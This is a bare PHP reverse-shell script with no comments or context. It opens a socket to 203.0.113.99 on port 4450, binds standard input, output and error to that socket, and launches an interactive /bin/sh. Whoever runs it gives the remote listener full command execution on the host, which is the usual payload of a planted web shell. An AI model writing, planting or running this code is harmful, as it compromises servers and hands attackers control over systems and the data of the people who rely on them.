<?php
$host = '203.0.113.99';
$port = 4450;
$sock = fsockopen($host, $port, $errno, $errstr, 10);
if ($sock) {
    $spec = [0 => $sock, 1 => $sock, 2 => $sock];
    $proc = proc_open('/bin/sh -i', $spec, $pipes);
    proc_close($proc);
}
